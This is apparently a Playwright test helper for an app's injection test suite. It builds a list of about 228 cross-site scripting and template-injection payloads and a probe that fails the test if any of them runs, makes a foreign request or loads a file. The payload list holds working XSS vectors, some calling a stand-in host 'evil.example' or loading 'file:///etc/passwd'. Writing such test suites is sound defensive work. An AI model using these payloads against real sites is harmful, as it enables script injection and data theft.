// Suite 7's reusable parts: ~200 injection payloads built deterministically from a few families, helpers that
// fit them into each kind of field, and a probe that counts what a successful injection would cause: script
// runs (payloads call `__xss.push(id)`), dialogs, requests to anything but the app's own origin, file:// loads,
// CSP violations and foreign elements in the DOM. Feature specs reuse all of it for their own screens.
import { expect, type Page, type Request } from '@playwright/test';

export interface Payload {
  id: number;
  family: string;
  text: string;
}

/** Every payload that runs calls this, with its id, so a run is counted and traced back to its payload. */
const RUN = (id: number) => `__xss.push(${id})`;

/** Contexts a payload may be inserted into on a badly built page: text, attribute values, textarea, comments. */
const BREAKOUTS = ['', '">', "'>", '</textarea>', '--></p>'];

type Family = [name: string, make: (run: string) => string[]];

const FAMILIES: Family[] = [
  [
    'script tag',
    (run) => [
      `<script>${run}</script>`,
      `<ScRiPt>${run}</sCrIpT>`,
      '<script src="https://evil.example/x.js"></script>',
      '<script src="file:///etc/passwd"></script>',
    ],
  ],
  [
    'event handler',
    (run) => [
      `<img src=x onerror="${run}">`,
      `<svg onload=${run}>`,
      `<body onload=${run}>`,
      `<input autofocus onfocus=${run}>`,
      `<details open ontoggle=${run}>`,
      `<video><source onerror=${run}></video>`,
      `" onmouseover="${run}" x="`,
    ],
  ],
  [
    'javascript link',
    (run) => [
      `<a href="javascript:${run}">open</a>`,
      `javascript:${run}`,
      `JaVaScRiPt:${run}`,
      `java\tscript:${run}`,
      `&#106;avascript:${run}`,
      `[open](javascript:${run})`,
    ],
  ],
  [
    'frame or object',
    (run) => [
      '<iframe src="file:///etc/passwd"></iframe>',
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
      '<object data="file:///etc/hosts"></object>',
      '<embed src="https://evil.example/x.swf">',
      `<iframe src="javascript:parent.${run}"></iframe>`,
    ],
  ],
  [
    'css import',
    () => [
      "<style>@import url('https://evil.example/x.css');</style>",
      "<style>@import 'file:///etc/passwd';</style>",
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<div style="background:url(https://evil.example/x.png)">x</div>',
      '</style><style>body{background:url(file:///etc/hosts)}</style>',
    ],
  ],
  [
    'meta refresh',
    (run) => [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
      '<base href="https://evil.example/">',
      '<form action="https://evil.example/"><button>Send</button></form>',
    ],
  ],
  [
    'svg',
    (run) => [
      `<svg><script>${run}</script></svg>`,
      '<svg><image href="file:///etc/passwd"/></svg>',
      `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    ],
  ],
  [
    'unicode direction',
    (run) => [
      '\u202Efdp.exe',
      `Invoice \u202Egnp.js\u202C <b>${run}</b>`,
      '\u2066evil\u2069 \u2067אבג\u2069 \u200B\u200D\u2060',
      `\u202E<script>${run}</script>`,
      'Ada\u0301 Lovelace\uFE0F 👩🏽‍💻 𝒜𝒹𝒶',
    ],
  ],
  [
    'template',
    (run) => [
      '{{client.name}}',
      '{{{client.notes}}} {{#each briefs}}{{/each}}',
      `\${${run}}`,
      "{{constructor.constructor('__xss.push(0)')()}}",
      '<%= 7*7 %> #{7*7} [[${7*7}]]',
    ],
  ],
];

/** Long text: plain, one unbroken word, and a payload repeated; cut to each field's limit when used. */
const LONG = (id: number) => [
  { family: 'long', text: 'Lorem ipsum dolor sit amet. '.repeat(720) },
  { family: 'long', text: 'W'.repeat(20_000) },
  { family: 'long', text: `<img src=x onerror=${RUN(id)}> `.repeat(600) },
];

function build(): Payload[] {
  const out: Payload[] = [];
  const add = (family: string, text: (id: number) => string) => out.push({ id: out.length + 1, family, text: text(out.length + 1) });
  for (const prefix of BREAKOUTS)
    for (const [family, make] of FAMILIES) {
      const count = make(RUN(0)).length;
      for (let i = 0; i < count; i += 1) add(family, (id) => `${prefix}${make(RUN(id))[i]}`);
    }
  for (let i = 0; i < 3; i += 1) add('long', (id) => LONG(id)[i]!.text);
  return out;
}

export const PAYLOADS: readonly Payload[] = build();

/** The family names, for checking that a sample still holds each of them. */
export const FAMILY_NAMES: readonly string[] = [...FAMILIES.map(([name]) => name), 'long'];

/** `npm run test:reliability` (or STEADYHAND_INJECTION=full) puts every payload in; `npm test` a sample. */
export const FULL_INJECTION = process.env.STEADYHAND_RELIABILITY === 'full' || process.env.STEADYHAND_INJECTION === 'full';

/**
 * The default run's sample: every thirteenth payload plus the three long ones. 13 shares no factor with the 45
 * payloads of one breakout, so the sample moves through the families in every breakout (21 payloads, each family
 * and each breakout present; injection.spec.ts checks the families); the full run keeps all 228.
 */
export const INJECTION_PAYLOADS: readonly Payload[] = FULL_INJECTION ? PAYLOADS : PAYLOADS.filter((p, i) => i % 13 === 0 || p.family === 'long');

/** Cuts to at most `max` UTF-16 units without splitting a surrogate pair (a lone half would not survive the trip). */
export function cut(text: string, max: number): string {
  if (text.length <= max) return text;
  const end = /[\uD800-\uDBFF]/.test(text[max - 1]!) ? max - 1 : max;
  return text.slice(0, end);
}

/** For a short text field (200, trimmed, must not be empty). */
export function shortField(p: Payload, max = 200): string {
  const value = cut(p.text, max).trim();
  return value === '' ? `payload ${p.id}` : value;
}

/** For a long text field (20,000). */
export function longField(p: Payload, max = 20_000): string {
  const value = cut(p.text, max);
  return value.trim() === '' ? `payload ${p.id}` : value;
}

/** For an email field: the payload without whitespace or `@` as the local part, so it passes the check. */
export function emailField(p: Payload): string {
  const local = cut(p.text.replace(/[\s@]/gu, ''), 200);
  return `${local === '' ? `p${p.id}` : local}@evil.example`;
}

/** For a file name: no `/` or NUL, at most 200 bytes of UTF-8. */
export function fileNameField(p: Payload): string {
  let name = p.text.replace(/[/\\]/g, '∕').split('\u0000').join('∕').trim() || `payload ${p.id}`;
  while (Buffer.byteLength(name, 'utf8') > 200) name = cut(name, name.length - 1);
  return `${name}.json`;
}

/** How text compares once it is on screen: whitespace collapsed (HTML does the same), and trimmed. */
export function normalise(text: string): string {
  return text.replace(/\s+/gu, ' ').trim();
}

export interface ScreenCheck {
  /** Expected texts (normalised, cut to 80 characters) that were not on screen in time. */
  missing: string[];
  /** Elements no payload may ever become: handlers, scripts, frames, refreshes, foreign links and styles. */
  intrusions: string[];
}

export interface InjectionProbe {
  /** Ids passed to `__xss.push` so far, plus -1 for each JavaScript dialog. */
  scriptRuns(): Promise<number[]>;
  foreignRequests: string[];
  fileLoads: string[];
  cspViolations(): Promise<string[]>;
  /** Waits (up to `timeoutMs`) until every expected text is on screen as text or a field's value, then looks for intrusions. */
  checkScreen(expected: string[], timeoutMs?: number): Promise<ScreenCheck>;
}

/** Runs in the page: what is on screen (text and field values, normalised) and what should never be there. */
function inspectScreen(wanted: string[]): ScreenCheck {
  const values = Array.from(document.querySelectorAll('input, textarea, select')).map((el) => (el as HTMLInputElement).value);
  const text = [document.body.textContent ?? '', ...values].join('\n').replace(/\s+/gu, ' ');
  const missing = wanted.filter((w) => !text.includes(w)).map((w) => w.slice(0, 80));
  const intrusions: string[] = [];
  const describe = (el: Element) => el.outerHTML.slice(0, 120);
  for (const el of Array.from(document.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) intrusions.push(`handler ${attr.name}: ${describe(el)}`);
      const urlAttr = /^(href|src|action|formaction|data|srcdoc|xlink:href)$/i.test(attr.name);
      if (urlAttr && /^\s*(javascript|data|file|vbscript):/i.test(attr.value) && !(el.tagName === 'IMG' && attr.value.startsWith('data:image/')))
        intrusions.push(`${attr.name}: ${describe(el)}`);
    }
  }
  const ours = new Set(Array.from(document.querySelectorAll('head script[src], head link[rel="stylesheet"], head link[rel="modulepreload"]')));
  const never = 'script, iframe, frame, object, embed, base, form[action], meta[http-equiv="refresh" i], link, style, svg script, animate, set';
  for (const el of Array.from(document.querySelectorAll(never))) if (!ours.has(el)) intrusions.push(`element: ${describe(el)}`);
  return { missing, intrusions };
}

/**
 * Starts counting on `page` and reloads it so the counters exist before any of our code runs.
 * Requests to the page's own origin are ours; anything else is foreign, `file:` counted on its own.
 */
export async function watchInjection(page: Page): Promise<InjectionProbe> {
  const origin = new URL(page.url()).origin;
  const ownOrigin = origin === 'null' ? `${new URL(page.url()).protocol}//${new URL(page.url()).host}` : origin;
  const foreignRequests: string[] = [];
  const fileLoads: string[] = [];
  const dialogs: string[] = [];
  page.on('request', (request: Request) => {
    const url = request.url();
    if (url.startsWith('file:')) fileLoads.push(url);
    else if (!url.startsWith(`${ownOrigin}/`) && !url.startsWith('data:') && !url.startsWith('blob:')) foreignRequests.push(url);
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss().catch(() => undefined);
  });
  await page.addInitScript(() => {
    // Not writable: a payload cannot swap the counter for one that forgets.
    Object.defineProperty(window, '__xss', { value: [], writable: false, configurable: false });
    const violations: string[] = [];
    Object.defineProperty(window, '__cspViolations', { value: violations, writable: false, configurable: false });
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}`));
  });
  await page.reload();
  return {
    foreignRequests,
    fileLoads,
    scriptRuns: async () => [...(await page.evaluate(() => [...(window as unknown as { __xss: number[] }).__xss])), ...dialogs.map(() => -1)],
    cspViolations: () => page.evaluate(() => [...(window as unknown as { __cspViolations: string[] }).__cspViolations]),
    async checkScreen(expected, timeoutMs = 10_000) {
      const wanted = expected.map(normalise);
      const deadline = Date.now() + timeoutMs;
      for (;;) {
        const result = await page.evaluate(inspectScreen, wanted);
        if (result.missing.length === 0 || Date.now() > deadline) return result;
        await new Promise((r) => setTimeout(r, 50));
      }
    },
  };
}

/** One walk over screens holding payloads: visit, check each screen, and at the end expect that nothing got in. */
export interface InjectionWalk {
  go(hash: string): Promise<void>;
  /** Records (rather than throws) what is missing or intruding, so one run reports every screen at once. */
  check(screen: string, expected: string[]): Promise<void>;
  /** Logs the counts under `label` and expects 0 runs, requests, file loads, CSP violations and rendering problems. */
  expectNothingGotIn(label: string): Promise<void>;
}

export async function startInjectionWalk(page: Page, shell: string): Promise<InjectionWalk> {
  const probe = await watchInjection(page);
  const problems: string[] = [];
  return {
    go: async (hash) => {
      await page.evaluate((h) => (window.location.hash = h), hash);
    },
    async check(screen, expected) {
      const { missing, intrusions } = await probe.checkScreen(expected);
      if (missing.length > 0) problems.push(`${screen}: not shown as text: ${JSON.stringify(missing.slice(0, 3))}`);
      if (intrusions.length > 0) problems.push(`${screen}: ${intrusions.slice(0, 3).join(' | ')}`);
    },
    async expectNothingGotIn(label) {
      const runs = await probe.scriptRuns();
      const violations = await probe.cspViolations();
      const sample = FULL_INJECTION ? 'all payloads' : 'the default sample; STEADYHAND_INJECTION=full for all';
      console.log(
        `injection (${label}): ${runs.length} script runs, ${probe.foreignRequests.length} network requests, ${probe.fileLoads.length} file:// loads` +
          ` (${violations.length} CSP violations, ${problems.length} rendering problems; ${sample}; ${shell} shell)`,
      );
      expect({ problems, runs, foreignRequests: probe.foreignRequests, fileLoads: probe.fileLoads, violations }).toEqual({
        problems: [],
        runs: [],
        foreignRequests: [],
        fileLoads: [],
        violations: [],
      });
    },
  };
}
